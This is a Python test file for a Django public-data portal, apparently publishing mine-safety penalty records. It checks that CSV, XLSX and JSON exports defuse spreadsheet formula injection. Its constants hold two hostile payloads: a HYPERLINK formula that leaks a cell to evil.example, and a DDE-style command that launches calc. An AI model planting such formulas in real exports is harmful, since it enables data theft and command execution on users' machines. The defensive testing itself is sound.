"""ADR 0080: result open data is safe to open in a spreadsheet; JSON keeps the original text."""

import csv
import io
import json

import pytest
from django.test import Client
from openpyxl import load_workbook

from .test_portal_results import body, release

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_formula_like_text_is_neutralised_in_csv_string_typed_in_xlsx_original_in_json(
    team,
):
    from django.utils import timezone

    from sanxiang.publicity import services

    publication = services.publication_manual_create(
        actor=team["editor"],
        agency=team["mine"].supervising_agency,
        category="penalty",
        decided_on=timezone.localdate(),
        mine=team["mine"],
        fields={
            "decision_number": "测（甲）煤安罚〔2026〕9号",
            "violation_type": AT,
            "violation_facts": "经查，该矿未按规定开展安全培训。",
            "penalty_basis": "《中华人民共和国安全生产法》第九十七条",
            "penalty_category": "罚款",
            "penalty_content": HOSTILE,
            "fine_amount": "0.5",
            "valid_until": "2099-12-31",
        },
    )
    release(team, publication)
    client = Client()

    rows = list(csv.reader(io.StringIO(body(client.get("/public/data/results/penalty.csv")))))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["处罚内容"] == "'" + HOSTILE
    assert record["违法行为类型"] == "'" + AT
    assert record["罚款金额（万元）"] == "0.5"  # a number stays a number
    assert not [cell for cell in rows[1] if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]

    book = load_workbook(io.BytesIO(client.get("/public/data/results/penalty.xlsx").content))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    cells = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert cells["处罚内容"].value == HOSTILE and cells["处罚内容"].data_type == "s"
    assert cells["违法行为类型"].value == AT and cells["违法行为类型"].data_type == "s"
    assert not [c for c in sheet[2] if c.data_type == "f"]

    [item] = json.loads(body(client.get("/public/data/results/penalty.json")))["items"]
    assert item["penalty_content"] == HOSTILE and item["violation_type"] == AT
